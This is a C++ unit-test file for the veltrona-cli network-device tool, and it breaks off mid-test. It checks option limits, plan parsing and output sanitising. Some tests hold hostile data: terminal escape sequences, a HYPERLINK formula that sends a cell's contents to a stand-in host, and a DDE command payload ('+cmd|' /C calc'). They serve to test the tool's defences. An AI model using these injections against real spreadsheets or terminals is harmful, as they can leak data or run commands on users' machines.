// veltrona-cli without a network: addresses, the limits of every option,
// where passwords come from, and the table's defences. What needs devices is
// in cli_lab_test.cpp.

#include "../support/tempfile.h"
#include "commandline.h"
#include "commandtable.h"
#include "csv.h"
#include "kovalibrary.h"
#include "plan.h"
#include "problems.h"
#include "report.h"

#include <gtest/gtest.h>

#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cstdio>
#include <cstring>
#include <fstream>
#include <map>
#include <sstream>

using namespace veltrona::cli;
using veltrona::parseMac;

namespace {

ParseOutcome parse(const std::vector<std::string> &words) {
    QStringList arguments;
    for (const std::string &word : words)
        arguments << QString::fromStdString(word);
    return parseCommandLine(arguments);
}

const std::string kMac = "02-00-00-00-00-01";

template <std::size_t N> void setText(char (&field)[N], const std::string &text) {
    std::memset(field, 0, N);
    std::memcpy(field, text.data(), std::min(text.size(), N));
}

using veltrona::test::TempFile;

} // namespace

TEST(CliCommandLine, MacAndIpv4Forms) {
    const MacAddress expected{0x02, 0x4b, 0x56, 0xab, 0xcd, 0xef};
    for (const char *good : {"02-4B-56-AB-CD-EF", "02:4b:56:ab:cd:ef", "02:4B:56:aB:Cd:eF"})
        EXPECT_EQ(parseMac(good), expected) << good;
    for (const char *bad : {"02-4B-56:AB-CD-EF", "02-4B-56-AB-CD", "02-4B-56-AB-CD-EF-00",
                            "024B56ABCDEF", "02-4B-56-AB-CD-EG", "2-4B-56-AB-CD-EF0"})
        EXPECT_FALSE(parseMac(bad)) << bad;

    EXPECT_EQ(canonicalIpv4("010.000.1.255"), "10.0.1.255");
    for (const char *bad : {"10.77.1", "10.77.1.5.6", "10.77.1.256", "10..1.5", "10.77.1.5 ",
                            " 10.77.1.5", "0x0a.1.1.1", "1.2.3.0004", ""})
        EXPECT_FALSE(canonicalIpv4(bad)) << bad;
}

TEST(CliCommandLine, EveryLimitHoldsAtItsEdgeAndNamesItsOption) {
    const std::vector<std::vector<std::string>> accepted = {
        {"set-hostname", "--mac", kMac, "--host", std::string(32, 'h'), "--domain",
         std::string(64, 'd'), "--user", "eightchr"},
        {"set-network", "--mac", kMac, "--pppoe-user", std::string(16, 'u'), "--pppoe-service",
         std::string(32, 's'), "--mtu", "65535"},
        {"scan", "--seconds", "3600", "--bind", "10.77.0.1", "--format", "json"},
        // One grammar: --opt=value as --opt value, for every command.
        {"scan", "--seconds=3600", "--format=json", "--bind=10.77.0.1"},
        {"apply", "plan.csv", "--parallel=3", "--seconds", "5", "--dry-run"},
        {"apply", "--", "-plan.csv"},
        {"plan", "--order=serial", "--only-mode", "pppoe"},
    };
    for (const auto &words : accepted)
        EXPECT_TRUE(parse(words).commandLine) << parse(words).error;
    EXPECT_EQ(parse({"set-hostname", "--mac", kMac, "--host", "caf\xc3\xa9"}).commandLine->hostName,
              "caf\xe9");

    const std::vector<std::pair<std::vector<std::string>, std::string>> refused = {
        {{"set-hostname", "--mac", kMac, "--host", std::string(33, 'h')}, "--host"},
        {{"set-hostname", "--mac", kMac, "--domain", std::string(65, 'd')}, "--domain"},
        {{"set-hostname", "--mac", kMac, "--host", "a", "--user", "ninechars"}, "--user"},
        {{"set-hostname", "--mac", kMac, "--host", "a", "--user", ""}, "--user"},
        // Devices take Latin-1: neither other characters nor undecodable bytes.
        {{"set-hostname", "--mac", kMac, "--host", "\xe6\x97\xa5\xe6\x9c\xac"}, "--host"},
        {{"set-hostname", "--mac", kMac, "--host", "a", "--user", "r\xe9"}, "--user"},
        {{"set-hostname", "--mac", kMac}, "--host"},
        {{"set-network", "--mac", kMac, "--pppoe-user", std::string(17, 'u')}, "--pppoe-user"},
        {{"set-network", "--mac", kMac, "--pppoe-service", std::string(33, 's')},
         "--pppoe-service"},
        {{"set-network", "--mac", kMac, "--mtu", "65536"}, "--mtu"},
        {{"set-network", "--mac", kMac, "--mtu", "-1"}, "--mtu"},
        {{"set-network", "--mac", kMac, "--mtu", "99999999999999"}, "--mtu"},
        {{"set-network", "--mac", kMac, "--ip", "10.0.0.256"}, "--ip"},
        {{"set-network", "--mac", kMac, "--netmask", "255.255.0"}, "--netmask"},
        {{"set-network", "--mac", kMac, "--gateway", "gw"}, "--gateway"},
        {{"set-network", "--mac", kMac, "--dns", "1.1.1.1.1"}, "--dns"},
        {{"set-network", "--mac", kMac, "--pppoe-dns", "x"}, "--pppoe-dns"},
        {{"set-network", "--mac", kMac, "--mode", "auto"}, "--mode"},
        {{"set-network", "--mac", kMac, "--dns-mode", "on"}, "--dns-mode"},
        {{"set-network", "--mac", kMac, "--pppoe-password-file", "f", "--ask-pppoe-password"},
         "--ask-pppoe-password"},
        {{"set-network", "--mac", "02-00-00-00-00-0G", "--mode", "dhcp"}, "--mac"},
        {{"set-network", "--mode", "dhcp"}, "--mac"},
        {{"set-account", "--mac", kMac, "--guest", "maybe"}, "--guest"},
        {{"scan", "--seconds", "0"}, "--seconds"},
        {{"scan", "--seconds", "1", "--seconds", "2"}, "--seconds"},
        {{"scan", "--format", "xml"}, "--format"},
        {{"scan", "--mac", kMac}, "mac"},
        {{"scan", "extra"}, "extra"},
        {{"rescan"}, "rescan"},
        // Numbers are digits only, everywhere.
        {{"scan", "--seconds=+5"}, "--seconds"},
        {{"apply", "plan.csv", "--seconds=+5"}, "--seconds"},
        {{"apply", "plan.csv", "--parallel= 3"}, "--parallel"},
        {{"apply", "plan.csv", "--parallel", "257"}, "--parallel"},
        {{"plan", "--order", "size"}, "--order"},
        {{"plan", "--format"}, "--format"},
        {{"plan", "--netmask", "255.255"}, "--netmask"},
        {{"scan", "--show-secrets=yes"}, "--show-secrets"},
        {{"apply"}, "plan file"},
        {{"apply", "a.csv", "b.csv"}, "'b.csv'"},
        {{"apply", "a.csv", "--report", "r", "--report=s"}, "more than once"},
        {{"help", "rescan"}, "rescan"},
        {{"scan", "-V"}, "-V"},
    };
    for (const auto &[words, option] : refused) {
        const ParseOutcome outcome = parse(words);
        EXPECT_FALSE(outcome.commandLine) << words.back();
        EXPECT_NE(outcome.error.find(option), std::string::npos) << outcome.error;
    }
}

TEST(CliCommandLine, MistypedWordsNameTheClosestOne) {
    const Interfaces interfaces = {
        {"eth0", {"192.0.2.5"}}, {"wlan0", {"198.51.100.7", "198.51.100.8"}}, {"dummy0", {}}};
    const std::vector<std::pair<std::vector<std::string>, std::string>> cases = {
        {{"scan", "--fromat", "csv"}, "unknown option '--fromat' (did you mean --format?)"},
        {{"apply", "p.csv", "--dryrun"}, "(did you mean --dry-run?)"},
        {{"apply", "p.csv", "--paral=2"}, "(did you mean --parallel?)"},
        {{"scna"}, "unknown command 'scna' (did you mean scan?)"},
        {{"set-hostnmae"}, "(did you mean set-hostname?)"},
        {{"help", "aply"}, "(did you mean apply?)"},
        {{"--verison"}, "(did you mean --version?)"},
        {{"scan", "--format", "jsno"}, "is not table, csv or json (did you mean json?)"},
        {{"scan", "--zzz"}, "unknown option '--zzz' (try scan --help)"},
        {{"frobnicate"}, "unknown command 'frobnicate' (try --help)"},
        {{"scan", "--bind", "eth1"}, "nor an interface of this host (did you mean eth0?)"},
        {{"scan", "--bind", "wlan0"}, "several IPv4 addresses (198.51.100.7, 198.51.100.8)"},
        {{"scan", "--bind", "dummy0"}, "interface dummy0 has no IPv4 address"},
        {{"scan", "--bind", "10.77.0"}, "--bind: '10.77.0' is neither an IPv4 address nor"},
    };
    for (const auto &[words, message] : cases) {
        QStringList arguments;
        for (const std::string &word : words)
            arguments << QString::fromStdString(word);
        const ParseOutcome outcome = parseCommandLine(arguments, interfaces);
        EXPECT_FALSE(outcome.commandLine) << words.back();
        EXPECT_NE(outcome.error.find(message), std::string::npos) << outcome.error;
    }
    const ParseOutcome byName = parseCommandLine({"scan", "--bind=eth0"}, interfaces);
    ASSERT_TRUE(byName.commandLine) << byName.error;
    EXPECT_EQ(byName.commandLine->bindAddress, "192.0.2.5");

    // The completion offers what the table holds where it fits.
    const std::vector<std::pair<std::vector<std::string>, std::vector<std::string>>> offers = {
        {{"scan", "--bind", ""}, {"eth0", "wlan0"}},
        {{"set-network", "--mode", "p"}, {"pppoe"}},
        {{"doctor", "--p"}, {"--probe"}},
        {{"set-account", "--new-password-file", ""}, {"<file>"}},
        {{"help", "set-a"}, {"set-account"}},
        {{"-"}, {"--help", "--version"}},
    };
    for (auto [words, expected] : offers) {
        const std::string current = words.back();
        words.pop_back();
        EXPECT_EQ(completions(words, current, interfaces), expected) << current;
    }
}

// The manual page's and the guide's option lists hold the table's options,
// command by command, with the same value names.
TEST(CliCommandLine, ManualPageAndGuideFollowTheTable) {
    const auto read = [](const char *path) {
        std::ifstream file(path);
        std::string text((std::istreambuf_iterator<char>(file)), std::istreambuf_iterator<char>());
        EXPECT_FALSE(text.empty()) << path;
        std::string plain; // roff's \- is a dash
        for (std::size_t i = 0; i < text.size(); ++i)
            if (!(text[i] == '\\' && i + 1 < text.size() && text[i + 1] == '-'))
                plain += text[i];
        return plain;
    };
    // The table's options of a command, each with its value name.
    const auto tableOf = [](const CommandEntry &command) {
        std::map<std::string, std::string> options;
        for (const OptionEntry &option : command.options)
            options["--" + std::string(option.name)] = option.valueName ? option.valueName : "";
        return options;
    };

    // The manual page: tag lines in the subsections of OPTIONS.
    std::map<std::string, std::map<std::string, std::string>> manual; // subsection -> options
    std::istringstream page(read(VELTRONA_CLI_MANUAL));
    std::string line, section, subsection;
    bool tag = false;
    while (std::getline(page, line)) {
        if (line.rfind(".SH ", 0) == 0 || line.rfind(".SS ", 0) == 0) {
            (line[2] == 'H' ? section : subsection) = line.substr(4);
            if (line[2] == 'H')
                subsection.clear();
            tag = false;
        } else if (tag && section == "OPTIONS" && line.rfind("--", 0) != 0 &&
                   line.find(" --") != std::string::npos) {
            std::istringstream words(line.substr(line.find(" --") + 1));
            std::string name, word, value;
            words >> name;
            while (words >> word)
                for (char c : word)
                    if (c != '"')
                        value += c;
            manual[subsection][name] = value;
        }
        tag = line == ".TP" || line == ".TQ";
    }
    for (const CommandEntry &command : commandTable()) {
        std::map<std::string, std::string> listed = manual["Options of every command"];
        const std::string own = std::string("Options of ") + command.name;
        listed.insert(manual[own].begin(), manual[own].end());
        if (std::string(command.name).rfind("set-", 0) == 0)
            listed.insert(manual["Options of the configuration commands"].begin(),
                          manual["Options of the configuration commands"].end());
        EXPECT_EQ(listed, tableOf(command)) << "manual page, " << command.name;
    }

    // The guide: its synopsis names options of their command only, its
    // tables give the value names of the table, and every option is in it.
    std::string guide = read(VELTRONA_CLI_GUIDE);
    for (std::size_t at = guide.find("\\|"); at != std::string::npos; at = guide.find("\\|", at))
        guide.erase(at, 1); // a | in a table's cell
    std::istringstream lines(guide.substr(0, guide.find("\nOptions of every command")));
    const CommandEntry *command = nullptr;
    while (std::getline(lines, line)) {
        if (line.rfind("veltrona-cli ", 0) == 0)
            command = findCommand(line.substr(13, line.find(' ', 13) - 13));
        else if (line.empty() || line[0] != ' ')
            command = nullptr;
        for (std::size_t at = line.find("--"); command && at != std::string::npos;
             at = line.find("--", at + 2)) {
            const std::string name = line.substr(at, line.find_first_of(" ]|", at) - at);
            EXPECT_TRUE(tableOf(*command).count(name)) << command->name << " " << name;
        }
    }
    for (const CommandEntry &entry : commandTable())
        for (const auto &[name, value] : tableOf(entry)) {
            EXPECT_NE(guide.find("`" + name), std::string::npos) << name;
            const std::size_t row = guide.find("| `" + name + " ");
            if (row != std::string::npos) {
                EXPECT_EQ(guide.substr(row + 4 + name.size(), value.size() + 1), value + "`")
                    << name;
            }
        }
}

TEST(CliChanges, ProblemsAreWordedInTheTermsOfTheFrontEnd) {
    using veltrona::change::Code;
    using veltrona::change::Field;
    const veltrona::change::Problem mode(Code::NotSentInMode, Field::Address, {"dhcp", "device"}, 4,
                                         "02-4B-56-00-00-01");
    EXPECT_EQ(problemText(mode, Terms::Options),
              "--ip: not sent in dhcp (the device is in dhcp; give --mode)");
    EXPECT_EQ(problemText(mode, Terms::Columns),
              "row 4 (02-4B-56-00-00-01): new_ip: not sent in dhcp (the device is in dhcp; give "
              "new_mode)");
    const veltrona::change::Problem held(
        Code::HeldBy, Field::Address, {"10.77.1.9", "02-4B-56-00-00-09", "evil\x1b[2J\xc2\x9bx"});
    EXPECT_EQ(problemText(held, Terms::Options),
              "10.77.1.9 is held by the device 02-4B-56-00-00-09 (evil?[2J?x).");
    const veltrona::change::Problem twice(
        Code::HeardTwice, Field::Device,
        {"02-4B-56-00-01-04", "10.77.1.4", "vt0", "10.78.1.4", "vt1"});
    EXPECT_EQ(problemText(twice, Terms::Options),
              "02-4B-56-00-01-04 answered from two places (10.77.1.4 on vt0 and 10.78.1.4 on vt1): "
              "give --bind with the address of the network to change it on");
}

TEST(CliOutput, TableAlignsColumnsAndDefusesControlCharacters) {
    FoundDevice plain;
    plain.info.mac[5] = 0x1f;
    setText(plain.info.modelName, "Cam\xc3\xa9ra"); // one column wide on screen
    setText(plain.info.hostName, "cam");
    FoundDevice evil = plain;
    evil.info.mac[5] = 0x20;
    setText(evil.info.modelName, "KV");
    setText(evil.info.hostName, "x\033[2Jy");
    FoundDevice c1 = evil; // U+009B as UTF-8, and as the byte of a Latin-1 text
    setText(c1.info.modelName, "a\xc2\x9b"
                               "2Jb");
    setText(c1.info.hostName, "\xe9\x9b"
                              "2J");
    const std::string table = formatTable({plain, evil, c1}, false);
    EXPECT_EQ(table.find('\033'), std::string::npos);
    EXPECT_EQ(table.find('\x9b'), std::string::npos);
    EXPECT_NE(table.find("a?2Jb"), std::string::npos);
    EXPECT_NE(table.find("\xc3\xa9?2J"), std::string::npos) << "Latin-1 shown as UTF-8";
    EXPECT_NE(formatCsv({c1}, false)
                  .find("a\xc2\x9b"
                        "2Jb"),
              std::string::npos)
        << "CSV exact";
    EXPECT_NE(table.find("x?[2Jy"), std::string::npos);
    std::vector<std::string> lines;
    for (std::size_t at = 0, end; (end = table.find('\n', at)) != std::string::npos; at = end + 1)
        lines.push_back(table.substr(at, end - at));
    ASSERT_EQ(lines.size(), 4u);
    EXPECT_EQ(lines[1].find("00-00-00-00-00-1F"), lines[0].find("MAC Address"));
    EXPECT_EQ(lines[1].find("cam"), lines[0].find("Hostname") + 1) << "é is two bytes";
    EXPECT_EQ(lines[2].find("x?[2Jy"), lines[0].find("Hostname"));
    EXPECT_EQ(veltrona::csvField("two\nlines"), "\"two\nlines\"");
}

// Answers every decoder for one made-up reply, counting the calls; the decoder
// named by `failing` refuses.
class RecordingLibrary : public veltrona::KovaLibrary {
public:
    std::string failing;
    std::map<std::string, int> calls;

    int32_t getDeviceInfo(HKOVAITEM, KOVA_DEVICE_INFO *info) override {
        std::memset(info->ipAddress, '1', sizeof info->ipAddress); // fills the field
        setText(info->modelName, "KV-1");
        info->mac[5] = 7;
        return answer("info");
    }
    int32_t getNetworkSettings(HKOVAITEM, KOVA_NETWORK_SETTINGS *settings) override {
        settings->mode = KOVA_MODE_PPPOE;
        return answer("network");
    }
    int32_t getGuestAccount(HKOVAITEM, int32_t *guest) override {
        *guest = 1;
        return answer("guest");
    }
    int32_t getItemFlag(HKOVAITEM, int32_t *flag) override {
        *flag = 0;
        return answer("flag");
    }
    int32_t getServicePorts(HKOVAITEM, KOVA_SERVICE_PORTS *ports) override {
        ports->webPort = 80;
        return answer("ports");
    }
    int32_t getFirmwareInfo(HKOVAITEM, KOVA_FIRMWARE_INFO *firmware) override {
        firmware->fwMajor = 2;
        return answer("firmware");
    }
    int32_t getReplyVersion(HKOVAITEM, int32_t *version) override {
        *version = 5;
        return answer("version");
    }
    int32_t getReplyInterface(HKOVAITEM, char *name) override {
        std::strcpy(name, "vt0");
        return answer("interface");
    }

private:
    int32_t answer(const std::string &what) {
        ++calls[what];
        return what == failing ? KOVA_ERR_NOT_IMPLEMENTED : KOVA_OK;
    }
};

TEST(CliOutput, EachReplyFieldIsDecodedOnceAndTheRowIsMadeFromTheRecord) {
    const HKOVAITEM item = reinterpret_cast<HKOVAITEM>(std::uintptr_t{0x10});
    RecordingLibrary library;
    FoundDevice device;
    ASSERT_TRUE(decodeDevice(library, item, device));
    for (const char *what :
         {"info", "network", "guest", "flag", "ports", "firmware", "version", "interface"})
        EXPECT_EQ(library.calls[what], 1) << what;
    EXPECT_EQ(device.item, item);
    EXPECT_EQ(device.version, 5);
    EXPECT_EQ(device.interfaceName, "vt0");
    DEVICE_ROW row{};
    ASSERT_TRUE(veltrona::assembleDeviceRow(library, item, row));
    const auto texts = veltrona::rowTexts(row);
    EXPECT_EQ(texts, veltrona::rowTexts(veltrona::rowOf(device)));
    EXPECT_EQ(texts[veltrona::ColIpAddress], std::string(15, '1')) << "the row keeps a terminator";
    EXPECT_EQ(texts[veltrona::ColType], "pppoe");
    EXPECT_EQ(texts[veltrona::ColWeb], "80");
    EXPECT_EQ(texts[veltrona::ColFirmware], "2.0.0");

    // Without ports or firmware the row shows none; without any of the rest the
    // reply is dropped.
    for (const char *absent : {"ports", "firmware"}) {
        library.failing = absent;
        const bool ports = std::string(absent) == "ports";
        ASSERT_TRUE(decodeDevice(library, item, device)) << absent;
        EXPECT_EQ(ports ? device.ports.has_value() : device.firmware.has_value(), false);
        const auto shown = veltrona::rowTexts(veltrona::rowOf(device));
        EXPECT_EQ(shown[ports ? veltrona::ColWeb : veltrona::ColFirmware], "N/A");
    }
    for (const char *needed : {"info", "guest", "flag", "network"}) {
        library.failing = needed;
        EXPECT_FALSE(decodeDevice(library, item, device)) << needed;
        EXPECT_FALSE(veltrona::assembleDeviceRow(library, item, row)) << needed;
    }
    library.failing = "version";
    ASSERT_TRUE(decodeDevice(library, item, device));
    EXPECT_FALSE(device.version.has_value());
}

TEST(CliPlan, HandEditedCsvAndJsonReadTheSame) {
    // Columns in any order, quoted cells, CR LF, a byte-order mark, blank = keep.
    const PlanInput csv = parsePlan("\xEF\xBB\xBFnew_host,host,mac,new_mode,new_ip,new_guest\r\n"
                                    "\"cam, 1\",old,02-00-00-00-00-01,static,10.0.0.7,\r\n"
                                    ",,02:00:00:00:00:02,,,yes\r\n,,,,,\r\n");
    const QByteArray jsonText = R"([{"mac": "02-00-00-00-00-01", "new_host": "cam, 1",
        "new_mode": "static", "new_ip": "10.0.0.7"}, {"mac": "02-00-00-00-00-02", "new_guest": "yes"}])";
    const PlanInput json = parsePlan(jsonText);
    const PlanInput jsonWithMark = parsePlan("\xEF\xBB\xBF\n" + jsonText);
    for (const PlanInput *plan : {&csv, &json, &jsonWithMark}) {
        ASSERT_TRUE(plan->problems.empty()) << plan->problems.front();
        ASSERT_EQ(plan->rows.size(), 2u);
        const PlanChanges &first = plan->rows[0].changes;
        EXPECT_EQ(first.hostName, "cam, 1");
        EXPECT_EQ(first.network.mode, KOVA_MODE_STATIC);
        EXPECT_EQ(first.network.ipAddress, "10.0.0.7");
        EXPECT_FALSE(first.guest || first.domainName || first.network.netMask);
        const PlanChanges &second = plan->rows[1].changes;
        EXPECT_EQ(second.guest, true);
        EXPECT_FALSE(second.network.any() || second.hostName);
    }
    EXPECT_EQ(csv.rows[1].row, 3);

    // A cell that is not UTF-8 is Latin-1: a plan saved by a Latin-1 program.
    for (const char *cafe : {"caf\xe9", "caf\xc3\xa9", "\"caf\xe9\""}) {
        const PlanInput latin1 =
            parsePlan(QByteArray("mac,new_host\n02-00-00-00-00-01,") + cafe + "\n");
        ASSERT_TRUE(latin1.problems.empty()) << latin1.problems.front();
        EXPECT_EQ(latin1.rows[0].changes.hostName, "caf\xe9") << cafe;
    }

    // Static settings in a row whose new mode is not static; a cell too many.
    const PlanInput wrong = parsePlan("mac,new_mode,new_netmask\n02-00-00-00-00-01,dhcp,255.0.0.0\n"
                                      "02-00-00-00-00-02,,,x\n");
    ASSERT_EQ(wrong.problems.size(), 2u);
    EXPECT_NE(wrong.problems[0].find("row 3: 4 cells"), std::string::npos) << wrong.problems[0];
    EXPECT_NE(wrong.problems[1].find("row 2: new_netmask: not sent"), std::string::npos)
        << wrong.problems[1];
}

TEST(CliPlan, RangesAndHostNamePatterns) {
    PlanFill fill;
    fill.netMask = "255.255.255.0";
    fill.gateway = "192.168.5.1";
    const auto range = [&](const std::string &text) {
        const auto parsed = parseRange(text);
        fill.rangeFirst = parsed ? std::optional(parsed->first) : std::nullopt;
        fill.rangeLast = parsed ? std::optional(parsed->second) : std::nullopt;
        return parsed.has_value();
    };
    EXPECT_FALSE(range("192.168.5.20-192.168.5.10"));
    ASSERT_TRUE(range("192.168.5.10-192.168.5.49"));
    EXPECT_EQ(checkFill(fill, 40), "");
    EXPECT_NE(checkFill(fill, 41).find("40 addresses for 41 devices"), std::string::npos);
    ASSERT_TRUE(range("192.168.5.200-192.168.6.10"));
    EXPECT_NE(checkFill(fill, 2).find("not in the same subnet"), std::string::npos);
    ASSERT_TRUE(range("192.168.5.250-192.168.5.255"));
    EXPECT_NE(checkFill(fill, 2).find("broadcast address 192.168.5.255"), std::string::npos);
    ASSERT_TRUE(range("192.168.5.1-192.168.5.9"));
    EXPECT_NE(checkFill(fill, 2).find("would be given to a device"), std::string::npos);

    FoundDevice device;
    const std::uint8_t mac[6] = {2, 0, 0, 0xAB, 0x0C, 0xD1};
    std::memcpy(device.info.mac, mac, 6);
    device.firmware.emplace();
    setText(device.firmware->serialNumber, "SN1234567890ABCD"); // fills the field
    std::string error;
    EXPECT_EQ(expandHostPattern("cam-{n:03}-{mac}", 7, device, error), "cam-007-ab0cd1");
    EXPECT_EQ(expandHostPattern("{{{serial}}}-{n}", 1234, device, error),
              "{SN1234567890ABCD}-1234");
    for (const char *bad : {"cam-{x}", "cam-{n", "cam-}"}) {
        error.clear();
        EXPECT_FALSE(expandHostPattern(bad, 1, device, error)) << bad;
        EXPECT_NE(error.find("--hostname-pattern"), std::string::npos);
    }
}

struct RefusedPlan {
    const char *name;
    std::string text;
    std::string problem; // the start of the first problem
};

class CliPlanRefused : public testing::TestWithParam<RefusedPlan> {};

TEST_P(CliPlanRefused, OneProblemNamingItsRow) {
    const PlanInput plan = parsePlan(QByteArray::fromStdString(GetParam().text));
    ASSERT_FALSE(plan.problems.empty());
    EXPECT_EQ(plan.problems.front().substr(0, GetParam().problem.size()), GetParam().problem)
        << plan.problems.front();
}

const std::string kTwoRows = "02-00-00-00-00-01,\"cam\n02-00-00-00-00-02,x\n";

INSTANTIATE_TEST_SUITE_P(
    Rows, CliPlanRefused,
    testing::Values(
        RefusedPlan{"unterminated_quote", "mac,new_host\n" + kTwoRows,
                    "row 2: a quote opens a cell and is never closed"},
        RefusedPlan{"json_list", R"([{"mac": "02-00-00-00-00-01", "new_ip": ["10.0.0.1"]}])",
                    "entry 1: new_ip: a text is needed (in quotes), not a list"},
        RefusedPlan{"json_object", R"([{"mac": "02-00-00-00-00-01", "new_host": {}}])",
                    "entry 1: new_host: a text is needed (in quotes), not an object"},
        RefusedPlan{"json_null", R"([{"mac": "02-00-00-00-00-01", "new_guest": null}])",
                    "entry 1: new_guest: a text is needed (in quotes), not null"},
        RefusedPlan{"json_number_mac", R"([{"mac": 2}])", "entry 1: mac: a text is needed"},
        RefusedPlan{"json_entry_not_object", R"([{"mac": "02-00-00-00-00-01"}, "x"])",
                    "entry 2: not an object"},
        RefusedPlan{"json_field_twice",
                    R"([{"mac": "02-00-00-00-00-01", "new_ip": "10.0.0.1"}, [1, {"mac": 2}],
                        {"mac": "02-00-00-00-00-02", "mac": "02-00-00-00-00-03"}])",
                    "entry 3: field 'mac' is given twice"},
        RefusedPlan{"json_field_twice_escaped",
                    R"([{"mac": "02-00-00-00-00-01", "m\u0061c": "02-00-00-00-00-02"}])",
                    "entry 1: field 'mac' is given twice"},
        RefusedPlan{"json_top_level_object", R"( {"mac": "02-00-00-00-00-01"})",
                    "the plan is JSON, but not a list"},
        RefusedPlan{"json_broken_behind_a_mark", "\xEF\xBB\xBF[{\"mac\": }]",
                    "the plan is not valid JSON: "},
        RefusedPlan{"not_latin1_named", "mac,new_host\n02-00-00-00-00-01,cam-\xc4\x81\n",
                    "row 2: new_host: the host name holds '\xc4\x81' (U+0101), which devices "
                    "cannot take"},
        RefusedPlan{"escape_in_host", "mac,new_host\n02-00-00-00-00-01,\"a\x1b[31m\"\n",
                    "row 2: new_host: the host name holds a control character"},
        RefusedPlan{"c1_in_domain",
                    "mac,new_domain\n02-00-00-00-00-01,a\xc2\x9b"
                    "2J\n",
                    "row 2: new_domain: the domain name holds a control character"},
        RefusedPlan{"formula_host", "mac,new_host\n02-00-00-00-00-01,@SUM(1+1)\n",
                    "row 2: new_host: the host name starts with '@', which spreadsheets"},
        RefusedPlan{"formula_host_behind_apostrophe", "mac,new_host\n02-00-00-00-00-01,'=1+1\n",
                    "row 2: new_host: the host name starts with '='"},
        RefusedPlan{"line_of_commas", "mac\n" + std::string(1 << 20, ','),
                    "row 2: more than 64 cells"}),
    [](const testing::TestParamInfo<RefusedPlan> &info) { return std::string(info.param.name); });

// Device texts written for spreadsheets read back as they were.
TEST(CliPlan, HostileDeviceTextsRoundTripThroughASpreadsheetPlan) {
    FoundDevice device;
    device.info.mac[5] = 1;
    setText(device.info.hostName, "=HYPERLINK(\"http://e/\"&A1,\"x\")");
    setText(device.info.domainName, "+cmd|' /C calc'!A0");
    setText(device.info.modelName, "\033]0;TITLE\a\x9b");
    device.firmware.emplace();
    setText(device.firmware->serialNumber, "@SUM(1+1)");
    std::string error;
    const QByteArray csv = formatPlan({device}, {}, false, error);
    ASSERT_EQ(error, "");
    EXPECT_TRUE(csv.contains(",'@SUM(1+1),")) << csv.toStdString();
    EXPECT_TRUE(csv.contains(",\"'=HYPERLINK(\"\"http://e/\"\"&A1,\"\"x\"\")\",'+cmd|"))
        << csv.toStdString();
    std::vector<std::string> cells;
    veltrona::readCsv(csv.toStdString(), [&](const veltrona::CsvRecord &record) {
        cells = record.cells;
        return true;
    });
    ASSERT_EQ(cells.size(), planCurrentColumns().size() + planNewColumns().size());
    for (std::size_t i = 0; i < planCurrentColumns().size(); ++i) {
        EXPECT_EQ(veltrona::fromSpreadsheetText(cells[i]),
                  currentValue(device, planCurrentColumns()[i]));
        EXPECT_FALSE(!cells[i].empty() && veltrona::isFormulaStart(cells[i].front())) << cells[i];
    }
    EXPECT_TRUE(parsePlan(csv).problems.empty());

    // A device's UTF-8 text is written as it is, once; other bytes as Latin-1.
    setText(device.info.hostName, "caf\xc3\xa9");
    setText(device.info.domainName, "caf\xe9");
    EXPECT_EQ(currentValue(device, "host"), "caf\xc3\xa9");
    EXPECT_EQ(currentValue(device, "domain"), "caf\xc3\xa9");

    PlanFill fill;
    fill.hostPattern = "{serial}";
    EXPECT_TRUE(formatPlan({device}, fill, false, error).isEmpty());
    EXPECT_NE(error.find("would be '@SUM(1+1)': starts with '@'"), std::string::npos) << error;
}

// Peak memory of parsing `text` in a child process, in bytes above what the
// child held before (the peak is reset first); whether the plan was refused.
long parsingPeak(const QByteArray &text, bool &refused) {
    int channel[2];
    if (pipe(channel) != 0)
        return -1;
    const pid_t child = fork();
    if (child == 0) {
        const auto kib = [](const char *field) {
            std::ifstream status("/proc/self/status");
            std::string line;
            while (std::getline(status, line))
                if (line.rfind(field, 0) == 0)
                    return std::stol(line.substr(std::strlen(field)));
            return -1L;
        };
        std::ofstream("/proc/self/clear_refs") << "5"; // the peak starts from here
        const long before = kib("VmRSS:");
        const PlanInput plan = parsePlan(text);
        const long growth = (kib("VmHWM:") - before) * 1024;
        const bool refused = !plan.problems.empty();
        const long answer[2] = {growth, refused ? 1L : 0L};
        _exit(write(channel[1], answer, sizeof answer) == sizeof answer ? 0 : 1);
    }
    close(channel[1]);
    long answer[2] = {-1, -1};
    const bool got = read(channel[0], answer, sizeof answer) == sizeof answer;
    close(channel[0]);
    waitpid(child, nullptr, 0);
    refused = answer[1] != 0;
    return got ? answer[0] : -1;
}

TEST(CliPlan, LargePlansStayWithinASmallMultipleOfTheirSize) {
#if defined(__SANITIZE_ADDRESS__) || defined(__SANITIZE_THREAD__)
    GTEST_SKIP() << "a sanitizer's own memory would be measured with the plan's";
#endif
    // Rows as `plan` writes them, in CSV and in JSON, up to the size limit.
    const std::vector<std::pair<std::string, std::string>> fields = {{"mac", ""},
                                                                     {"model", "KV-1"},
                                                                     {"serial", "SN1"},
                                                                     {"address", "10.0.0.1"},
                                                                     {"mode", "dhcp"},
                                                                     {"ip", "10.0.0.1"},
                                                                     {"netmask", "255.0.0.0"},
                                                                     {"gateway", "10.0.0.254"},
                                                                     {"dns", "10.0.0.53"},
                                                                     {"host", "cam"},
                                                                     {"domain", "example.net"},
                                                                     {"guest", "no"},
                                                                     {"new_mode", ""},
                                                                     {"new_ip", ""},
                                                                     {"new_netmask", ""},
                                                                     {"new_gateway", ""},
                                                                     {"new_dns", ""},
                                                                     {"new_host", "cam-new"},
                                                                     {"new_domain", ""},
                                                                     {"new_guest", ""}};
    QByteArray csv, json = "[";
    for (const auto &[name, value] : fields)
        csv += QByteArray::fromStdString(name) + (name == "new_guest" ? "\n" : ",");
    for (int n = 0; csv.size() < kMaxPlanBytes - 1000 || json.size() < kMaxPlanBytes - 1000; ++n) {
        char mac[18];
        std::snprintf(mac, sizeof mac, "02-00-00-%02X-%02X-%02X", n >> 16 & 255, n >> 8 & 255,
                      n & 255);
        QByteArray line, entry = n ? ",\n  {" : "\n  {";
        for (const auto &[name, value] : fields) {
            const QByteArray cell =
                name == "mac" ? QByteArray(mac) : QByteArray::fromStdString(value);
            line += cell + (name == "new_guest" ? "\n" : ",");
            entry += "\n    \"" + QByteArray::fromStdString(name) + "\": \"" + cell + "\"" +
                     (name == "new_guest" ? "\n  }" : ",");
        }
        if (csv.size() + line.size() <= kMaxPlanBytes)
            csv += line;
        if (json.size() + entry.size() < kMaxPlanBytes)
            json += entry;
    }
    json += "]";
    const QByteArray commas = "mac\n" + QByteArray(kMaxPlanBytes - 4, ',');
